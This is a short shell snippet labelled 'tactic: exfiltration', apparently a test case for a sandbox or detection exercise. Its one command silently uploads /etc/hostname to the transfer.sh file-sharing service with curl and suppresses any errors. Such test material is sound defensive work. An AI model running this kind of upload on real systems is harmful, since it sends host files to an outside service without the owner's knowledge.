# tactic: exfiltration
# upload to a file-sharing service (the sandbox network namespace only)
curl -s -m 1 --upload-file /etc/hostname https://transfer.sh/h 2>/dev/null; true
